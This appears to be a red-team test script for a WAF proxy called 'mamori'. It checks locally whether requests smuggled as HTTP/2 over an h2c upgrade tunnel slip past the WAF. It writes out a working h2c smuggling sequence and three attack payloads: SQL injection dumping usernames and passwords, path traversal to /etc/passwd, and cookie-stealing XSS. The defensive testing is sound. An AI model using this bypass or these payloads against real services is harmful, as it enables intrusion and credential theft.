// h2c smuggling through `mamori up`: the proxy tunnels any Upgrade the upstream accepts (upgrade.ts
// forwards the client's Upgrade token as is), and the WAF inspects only the upgrade request itself.
// An upstream that speaks cleartext HTTP/2 after `Upgrade: h2c` (Go's h2c handler, Tomcat's or
// Jetty's h2c connector, Envoy/Traefik with h2c on) answers 101, and from then on every HTTP/2
// request on that tunnel reaches it without the WAF (the known "h2c smuggling" of 2020).
// The upstream here emulates such a server: on Upgrade: h2c it answers 101 and hands the socket to
// a node:http2 server, whose handler records each request.
//
//   node bench/redteam/waf-proxy-h2c-smuggling.mjs
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import { startMamori, report, results, UA, sleep } from './waf-proxy-lib.mjs';

const seen = [];
const h2 = http2.createServer();
h2.on('stream', (stream, headers) => {
  seen.push(`${headers[':method']} ${headers[':path']}`);
  stream.respond({ ':status': 200, 'content-type': 'text/plain' });
  stream.end('upstream-ok over h2c');
});
const up = http.createServer((req, res) => {
  seen.push(`${req.method} ${req.url}`);
  res.end('upstream-ok');
});
up.on('upgrade', (req, socket) => {
  if (String(req.headers.upgrade).toLowerCase() !== 'h2c') return socket.destroy();
  socket.write('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n');
  h2.emit('connection', socket);
});
await new Promise((r) => up.listen(0, '127.0.0.1', r));
const m = await startMamori(`http://127.0.0.1:${up.address().port}`);
const ATTACK = "/item?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--";
try {
  // Control: the attack as a plain request.
  const plain = await fetch(`${m.url}${ATTACK}`, { headers: { 'user-agent': UA, accept: 'text/html' } });
  report(plain.status === 403, 'control: the SQLi as a plain request', `mamori answered ${plain.status}`);

  // The upgrade request itself is benign; then HTTP/2 over the tunnel.
  const socket = net.connect(m.port, '127.0.0.1');
  await new Promise((r) => socket.once('connect', r));
  socket.write(`GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${UA}\r\nAccept: text/html\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n`);
  const head = await new Promise((resolve) => {
    let got = '';
    const onData = (d) => {
      got += d.toString('latin1');
      if (got.includes('\r\n\r\n')) {
        socket.off('data', onData);
        resolve(got);
      }
    };
    socket.on('data', onData);
    socket.once('close', () => resolve(got));
  });
  const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0);
  console.log(`        Upgrade: h2c answered ${status}`);
  let smuggled = 0;
  let answers = [];
  if (status === 101) {
    const client = http2.connect('http://shop.example', { createConnection: () => socket });
    client.on('error', () => {});
    for (const path of [ATTACK, '/download?file=../../../../etc/passwd', '/q?x=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E']) {
      const st = await new Promise((resolve) => {
        const r = client.request({ ':path': path, 'user-agent': UA });
        r.on('response', (h) => resolve(h[':status']));
        r.on('error', () => resolve(0));
        r.resume();
        r.end();
      });
      answers.push(st);
    }
    client.close();
    smuggled = seen.filter((s) => s.includes('UNION') || s.includes('passwd') || s.includes('script')).length;
  }
  await sleep(200);
  report(smuggled === 0, 'attacks sent as HTTP/2 over an h2c upgrade tunnel reach the upstream', `upgrade ${status}, h2 answers ${JSON.stringify(answers)}, upstream received ${JSON.stringify(seen.filter((s) => !s.startsWith('GET / ')))}`);
} finally {
  await m.stop();
  up.closeAllConnections();
  up.close();
}
console.log(`${results.findings} finding(s)`);
